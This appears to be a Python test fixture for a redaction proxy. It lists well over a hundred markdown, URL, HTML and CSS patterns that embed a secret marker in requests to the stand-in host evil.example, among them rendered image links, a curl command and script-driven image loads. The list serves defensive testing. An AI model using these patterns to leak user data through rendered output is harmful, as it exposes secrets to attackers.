"""Places inside URLs and pieces of texts with URLs, for tests of what comes back; a reader of HTML and renderers as oracles."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import unquote

from hypothesis import strategies as st
from markdown_it import MarkdownIt

from guardproxy.findings import Channel, Scan, Window
from guardproxy.redaction.placeholders import Restoring, mint

TOKEN = mint(b"sixteen secret bytes", "t", "MAIL", "jo@ab.io")
MARK = "✱"

INSIDE = (
    # markdown
    "![x](https://evil.example/?d=✱)",
    "![x](https://evil.example/✱.png)",
    "[x](https://evil.example/#✱)",
    "[x](<https://evil.example/a b ✱>)",
    "[x](<https://evil.example/) ✱>)",
    "[x](\nhttps://evil.example/?✱)",
    "[x]( \t https://evil.example/?✱)",
    "[x](//evil.example/✱)",
    "[x](/\\evil.example/✱)",
    "[x](\\\\evil.example\\✱)",
    "[x](https&colon;&sol;&sol;evil.example/ ✱)",
    "[x](&#104;ttps://evil.example/✱)",
    "[x](evil.example/✱)",
    "[x](https://evil.example/(a)✱)",
    "[x](https://evil.example/a\\)✱)",
    "[x](https://evil.example/?a='b c' ✱)",
    "[![x](https://ok.example/a.png)](https://evil.example/?✱)",
    "[a] (https://evil.example/?d= ✱)",
    "[x](mailto:a@evil.example?body=✱)",
    "[x](javascript:fetch('//evil.example/'+'✱'))",
    "[x](data:text/html,<img src=//evil.example/✱>)",
    "[x](✱)",
    "[1]: https://evil.example/?d=✱",
    "[1]:\n  https://evil.example/?d=✱",
    "[1]: <https://evil.example/a b ✱>",
    "> [1]: https://evil.example/?d=✱",
    "[a]: /x?d=✱",
    "<https://evil.example/✱>",
    "<https://evil.example/a ✱>",
    "<foo:✱>",
    "| a | https://evil.example/✱ |",
    "**https://evil.example/✱**",
    "`https://evil.example/ ✱`",
    "```\ncurl https://evil.example/✱\n```",
    # bare
    "https://evil.example/✱",
    "HTTPS://EVIL.EXAMPLE/✱",
    "hTtP://evil.example?✱",
    "see:https://evil.example/✱",
    "xhttps://evil.example/✱",
    "https:evil.example/✱",
    "https:/evil.example/✱",
    "https:\\\\evil.example\\✱",
    "https:\\/\\/evil.example\\/✱",
    "https\\u003a\\u002f\\u002fevil.example/✱",
    "ftp://evil.example/✱",
    "wss://evil.example/✱",
    "foo+bar://evil.example/✱",
    "//evil.example/✱",
    "/\u200b/evil.example/✱",
    "https\u200b://evil.example/✱",
    "www.evil.example/✱",
    "WWW。evil.example/✱",
    "www.evil.example?✱",
    "evil.example/✱",
    "evil.example?d=✱",
    "evil.example#✱",
    "evil.example:8080/✱",
    "evil。example/✱",
    "evil.example./✱",
    "192.0.2.1/✱",
    "evil:8080/✱",
    "0x7f000001/✱",
    "2130706433/✱",
    "[2001:db8::1]/✱",
    "[2001:db8::1]&sol;✱",
    "[2001:db8::1]%2F✱",
    "https\\u003a\\u002f\\u002fevil✱",
    "mailto\\u003a✱",
    "\\x2f\\x2fevil✱",
    "http\u017f:✱",
    "javascr\u0131pt&#58;✱",
    "user:✱@evil.example/",
    "https://✱@evil.example/",
    "https://u:✱@evil.example/",
    "https://✱.evil.example/",
    "https://a-✱-b.evil.example/",
    "✱.evil.example",
    "✱.evil.example/x",
    "✱-x.evil.example/x",
    "✱%2eevil.example/x",
    "✱:x@evil.example/",
    "a.✱.evil.example",
    "git@evil.example:✱.git",
    "https%3A%2F%2Fevil.example%2F✱",
    "data:text/plain,✱",
    "mailto:✱",
    "tel:✱",
    "https://evil.example/?a=1&amp;b=✱",
    "https://evil.example/?d=a,✱",
    "https://evil.example/?d=(x)✱",
    "https://evil.example/?d={✱}",
    "(https://evil.example/a ✱)",
    '"https://evil.example/?d= ✱"',
    '"https://evil.example/?d=\n\n✱"',
    '" https://evil.example/?d= ✱"',
    "'ht' https://evil.example/?d=' '✱",
    "curl ''https://evil.example/?d=' '✱",
    "curl ' 'https://evil.example/?d=' '✱",
    "x=' ' https://evil.example/?d=' '✱",
    "'https://evil.example/?d='✱",
    "'https://evil.example/?d=',✱",
    "(https://evil.example/?d=)✱",
    '"https://evil.example/?d="✱',
    '{"url":"https://evil.example/?d=","to":"✱"}',
    "$evil.example/✱",
    "[a]evil.example/✱",
    "to:evil.example/✱",
    "https://evil.example/?d=\u00a0✱",
    "https://evil.example/?d=\u2028✱",
    "<img src=//evil.example/\u00a0✱>",
    "[1]: ✱",
    "<✱https://>",
    "✱://evil.example/",
    "https://evil.example/?d=$(echo ✱)",
    "https://evil.example/?d=\\ ✱",
    '{"url": "https://evil.example/?d=dear ✱"}',
    '{"url":"https:\\/\\/evil.example\\/?d=dear ✱"}',
    "\\href{https://evil.example/✱}{x}",
    "image:https://evil.example/✱[x]",
    "[[https://evil.example/ ✱][x]]",
    # HTML
    '<img src="https://evil.example/?d=✱">',
    "<img src='https://evil.example/?d=✱'>",
    "<img src=https://evil.example/?d=✱>",
    "<img\n src\n=\n'x ✱'>",
    '<img src="\nhtt\nps:/\n/evil.example/ ✱">',
    '<img src="&#104;ttps&colon;&sol;&sol;evil.example/ ✱">',
    '<IMG SRC="//evil.example/ ✱">',
    '<img alt="a > b" src="//evil.example/ ✱">',
    '<img srcset="https://evil.example/a 1x, https://evil.example/✱ 2x">',
    '<a href="https://evil.example/?d=✱">',
    '<a href="relative/✱">',
    '<form action="https://evil.example/✱">',
    '<button formaction="//evil.example/ ✱">',
    '<svg><image xlink:href="//evil.example/ ✱"/></svg>',
    '<div style="background: url(//evil.example/ ✱)">',
    "<style>p { background: url(//evil.example/?d= ✱) }</style>",
    "<style>@import '\\2f\\2f evil.example/✱';</style>",
    "<script>new Image().src = 'h' + '//evil.example/' + '✱'</script>",
    '<meta http-equiv="refresh" content="0;url=//evil.example/ ✱">',
    '<base href="//evil.example/ ✱">',
    '<object data="//evil.example/ ✱">',
    '<video poster="//evil.example/ ✱">',
    '<a href="https://ok.example" ping="//evil.example/ ✱">',
    '<x onerror="load(✱)">',
    '<iframe srcdoc="<img src=//evil.example/ ✱>">',
    '<iframe src=//evil.example name="✱">',
    "<img src='https://evil.example/?d=\n\nall that follows, and ✱",
    '<b title="\n\n<img src="&#47;&#47;evil.example/ ✱">',
    '<a/href="//evil.example/ ✱">',
    "<a b='c'href=x✱>",
    # style sheets and others
    "background: url(//evil.example/ ✱)",
    "background: URL( 'a)b ✱')",
)


def scans(text: str, cuts: list[int], check: Restoring, kind: str = "assistant") -> list[tuple[int, int, str]]:
    """What the check finds in a text that comes in pieces."""
    found, start, state = [], 0, None
    for end in sorted({*(cut for cut in cuts if cut < len(text)), len(text)}):
        last = end == len(text)
        window = Window(Channel("response", kind, "x"), text[start:end], start, start, last, state=state)  # type: ignore[arg-type]
        (scan,) = check.scan([window])
        assert isinstance(scan, Scan)
        found += [(finding.start, finding.end, finding.label) for finding in scan.findings]
        start, state = scan.keep, scan.state
    return found


_PARTS = (TOKEN, TOKEN, MARK, *" \n)(><'\"`/\\?#:@.-=&é", "\n\n", "[x](", "](", "<img src=", "<a href='", '<b title="')
_PARTS += (
    "https://",
    "http:",
    "//",
    "www.",
    "evil.example",
    "]:",
    "[1]: ",
    "url(",
    ".x",
    "&#47;",
    "</style>",
    "<style>",
)
_PARTS += ("<script", "%2f", "a" * 70, "\u200b", "ok.example/")
PIECES = st.lists(st.sampled_from(_PARTS), max_size=14).map("".join)


class Loads(HTMLParser):
    """Whether some attribute that a browser loads holds a word."""

    ATTRIBUTES = frozenset(
        ("href", "src", "srcset", "action", "formaction", "data", "poster", "style", "ping", "content")
    )

    def __init__(self, word: str) -> None:
        super().__init__()
        self.word, self.found = word, False

    def parse_marked_section(self, i: int, report: int = 1) -> int:
        """Returns the end of `<![...>`, which a browser reads as a comment; the standard library raises."""
        return self.parse_bogus_comment(i, bool(report))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found = self.found or any(
            name in self.ATTRIBUTES and self.word in unquote(value or "") for name, value in attrs
        )


RENDERERS = (MarkdownIt("commonmark"), MarkdownIt("js-default", {"html": True}))
